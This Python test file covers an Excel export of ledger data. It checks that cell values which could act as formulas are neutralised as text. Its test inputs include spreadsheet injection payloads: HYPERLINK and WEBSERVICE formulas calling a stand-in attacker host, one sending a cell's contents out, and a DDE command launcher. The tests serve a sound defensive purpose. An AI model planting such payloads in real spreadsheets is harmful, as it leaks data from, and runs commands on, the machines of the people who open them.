import datetime as dt
import io
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace
from openpyxl import Workbook, load_workbook

from app.ledger import Contents
from app.ledger.contents import KeptNote, Wording
from app.model import (
    Answered,
    Corrected,
    Correction,
    Deed,
    DiffKind,
    DiffPart,
    Draft,
    Finding,
    KeptPlace,
    KeptVerdict,
    KnownNote,
    Language,
    Marked,
    NoteWords,
    Outcome,
    OutcomeKind,
    OutcomeSeen,
    SentPlace,
    SentReply,
    Step,
    Undone,
    VerdictKind,
    new_step,
)
from app.workspace.ledger.workbook import workbook_bytes

NINE = dt.datetime(2026, 3, 2, 9, 0, tzinfo=dt.UTC)


def kept(text: str, name: str = "7") -> KeptNote:
    note = KnownNote(name, NoteWords(text, "Pay"), "notes.csv", NINE, author="Maren")
    return KeptNote(note, (Wording(1, text, "Pay", NINE),))


def steps(*deeds: Deed) -> tuple[Step, ...]:
    made = [new_step(deed, who="Ines", at=NINE) for deed in deeds]
    return tuple(replace(step, number=number) for number, step in enumerate(made, start=1))


def opened(contents: Contents) -> Workbook:
    return load_workbook(io.BytesIO(workbook_bytes(contents)))


def rows(book: Workbook, sheet: str) -> list[dict[str, object]]:
    heads, *others = book[sheet].iter_rows(values_only=True)
    return [dict(zip(map(str, heads), row, strict=True)) for row in others]


def test_every_kind_of_thing_has_a_sheet_with_its_rows() -> None:
    place = SentPlace("7", "en/kiosk.xml", "pay.title", "/t/e", "Standart", "Standard")
    reply = SentReply(("7",), Language.EN, "A word", "Thank you", places=(place,), channel="copied")
    seen = Outcome(
        OutcomeKind.DIFFERENTLY,
        NINE,
        parts=(
            DiffPart(DiffKind.SAME, "Stan"),
            DiffPart(DiffKind.OLD, "dard"),
            DiffPart(DiffKind.NEW, "dards"),
        ),
    )
    correction = Correction("7", "notes.csv", "words", "", VerdictKind.COPY, (), NINE)
    done = steps(
        Answered(reply), OutcomeSeen("7", seen), Corrected(correction), Marked("8", OutcomeKind.MINE)
    )
    undone = replace(new_step(Undone(done[3].id, ("8",)), who="Ines", at=NINE), number=5)
    named = KeptPlace("en/kiosk.xml", "pay.title", 4, "Standart", "Standart", "Standard")
    verdict = KeptVerdict("7", 1, VerdictKind.COPY, Finding.CHANGE, 0.98, ("It is quoted.",), (named,), NINE)
    book = opened(
        Contents(
            "Kiosk", NINE, (kept("Standart"),), (verdict,), (*done, undone), (Draft("7", "Thank", version=2),)
        )
    )

    assert rows(book, "Notes")[0]["Outcome"] == "done differently"
    assert rows(book, "Notes")[0]["Answered"] == "2026-03-02 09:00:00 UTC"
    assert rows(book, "Wordings")[0]["Text"] == "Standart"
    assert rows(book, "Verdicts")[0]["Places"] == "en/kiosk.xml:4 pay.title: Standart → Standard"
    assert rows(book, "Corrections")[0]["Whose"] == "copy"
    assert rows(book, "Replies")[0]["Text"] == "Thank you"
    assert rows(book, "Places")[0]["After"] == "Standard"
    seen_row = rows(book, "Outcomes")[0]
    assert (seen_row["Asked"], seen_row["Stands there"]) == ("Standard", "Standards")
    assert rows(book, "Drafts")[0]["Version"] == 2
    assert [row["Undone"] for row in rows(book, "History")] == [None, None, None, "undone", None]


@pytest.mark.parametrize(
    "words",
    [
        "=1+1",
        "+49 30 1234",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        '=HYPERLINK("http://evil.example","click")',
        "=cmd|' /C calc'!A0",
        '=WEBSERVICE("http://evil.example/"&A1)',
        "=" * 40_000,
    ],
)
def test_what_could_be_a_formula_is_a_text_with_an_apostrophe(words: str) -> None:
    (row,) = opened(Contents(notes=(kept(words),)))["Notes"].iter_rows(min_row=2, max_col=3)

    assert row[2].data_type == "s"
    assert str(row[2].value).startswith("'" + words[:1].replace("\r", ""))


@pytest.mark.parametrize(
    "words", ["#N/A", "#REF!", "TRUE", "12", "2026-03-02", "<b>bold</b>", "&amp;", "'=1"]
)
def test_what_looks_like_something_else_is_the_same_text(words: str) -> None:
    (row,) = opened(Contents(notes=(kept(words),)))["Notes"].iter_rows(min_row=2, max_col=3)

    assert (row[2].data_type, row[2].value) == ("s", words)


def test_no_cell_of_the_file_holds_a_formula() -> None:
    evil = "=1+1"
    note = KnownNote(evil, NoteWords(evil, evil), evil, NINE, number=evil, author=evil, date=evil)
    contents = Contents(
        evil, NINE, (KeptNote(note, (Wording(1, evil, evil, NINE),)),), (), (), (Draft(evil, evil),)
    )

    with zipfile.ZipFile(io.BytesIO(workbook_bytes(contents))) as parts:
        sheets = [parts.read(name) for name in parts.namelist() if "worksheets" in name]

    assert sheets
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)


@given(st.text(st.characters(exclude_categories=()), max_size=50))
def test_any_text_can_be_written_and_read_again(text: str) -> None:
    sheet = opened(Contents(notes=(kept("a" + text),)))["Notes"]

    assert sheet["C2"].data_type == "s"
